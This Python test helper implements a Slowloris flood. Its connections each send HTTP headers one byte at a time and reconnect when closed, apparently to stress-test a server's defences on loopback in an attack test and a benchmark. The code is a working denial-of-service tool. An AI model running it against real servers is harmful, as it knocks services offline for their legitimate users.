"""A slow-connection flood, as a cheap attacker runs one: many connections that each send a
request's headers one byte at a time and open again as soon as they are closed. Shared by the
attack test (a few hundred connections) and the benchmark (thousands). Loopback only."""

from __future__ import annotations

import asyncio
import contextlib
import threading
import time
from dataclasses import dataclass, field

HEAD = (
    b"POST / HTTP/1.1\r\nHost: victim\r\nContent-Type: application/json\r\nX-Slow: " + b"a" * 4000
)


@dataclass
class SlowLoris:
    host: str
    port: int
    connections: int
    source: str = "127.0.0.2"  # another loopback address than the legitimate client's
    byte_every: float = 0.5
    reopen_after: float = 0.05
    opened: int = 0
    closed_by_server: int = 0
    longest_held: float = 0.0
    _stop: threading.Event = field(default_factory=threading.Event)
    _thread: threading.Thread | None = None

    def start(self) -> None:
        self._thread = threading.Thread(target=lambda: asyncio.run(self._run()), daemon=True)
        self._thread.start()

    def stop(self) -> None:
        self._stop.set()
        if self._thread is not None:
            self._thread.join(30)

    async def _run(self) -> None:
        workers = [asyncio.create_task(self._one(i)) for i in range(self.connections)]
        await asyncio.to_thread(self._stop.wait)
        for worker in workers:
            worker.cancel()
        await asyncio.gather(*workers, return_exceptions=True)

    async def _one(self, index: int) -> None:
        await asyncio.sleep(index * 0.002)  # a ramp, not one burst of SYNs
        while not self._stop.is_set():
            try:
                reader, writer = await asyncio.open_connection(
                    self.host, self.port, local_addr=(self.source, 0)
                )
            except OSError:
                await asyncio.sleep(self.reopen_after)
                continue
            self.opened += 1
            began = time.monotonic()
            try:
                for byte in HEAD:
                    writer.write(bytes([byte]))
                    await writer.drain()
                    try:
                        if await asyncio.wait_for(reader.read(1024), self.byte_every) == b"":
                            break  # the server closed it
                    except TimeoutError:
                        continue
            except (ConnectionError, OSError):
                pass
            held = time.monotonic() - began
            self.longest_held = max(self.longest_held, held)
            self.closed_by_server += 1
            writer.close()
            with contextlib.suppress(Exception):
                await writer.wait_closed()
            await asyncio.sleep(self.reopen_after)
